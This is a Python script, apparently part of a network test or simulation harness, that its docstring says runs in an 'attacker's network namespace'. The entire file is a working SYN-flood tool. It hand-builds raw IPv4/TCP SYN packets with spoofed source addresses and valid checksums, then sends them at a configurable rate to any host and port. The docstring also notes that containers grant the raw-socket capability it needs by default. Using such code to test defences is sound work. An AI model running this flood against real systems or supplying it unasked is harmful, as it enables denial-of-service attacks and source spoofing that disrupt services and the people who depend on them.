"""Runs in an attacker's network namespace: sends SYN packets from spoofed addresses.

The argument is JSON: {"sources": ["198.18.7.64"], "host": "...", "port": 80, "perSecond": 5000, "seconds": 4}. Prints how many
packets it sent. Needs CAP_NET_RAW, which containers have by default.
"""
import json
import random
import socket
import struct
import sys
import time

BATCH_SECONDS = 0.01


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, target, port):
    source, target = socket.inet_aton(source), socket.inet_aton(target)
    ports = struct.pack("!HH", random.randrange(1024, 65536), port)
    tcp = ports + struct.pack("!IIBBHHH", random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills in length, identification and checksum.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target) + tcp


def main():
    options = json.loads(sys.argv[1])
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = (options["host"], 0)
    sent, start = 0, time.monotonic()
    while time.monotonic() - start < options["seconds"]:
        allowed = (time.monotonic() - start) * options["perSecond"]
        while sent < allowed:
            source = random.choice(options["sources"])
            try:
                sender.sendto(syn(source, options["host"], options["port"]), target)
            except OSError:
                pass  # the queue is full
            sent += 1
        time.sleep(BATCH_SECONDS)
    print(sent)


main()
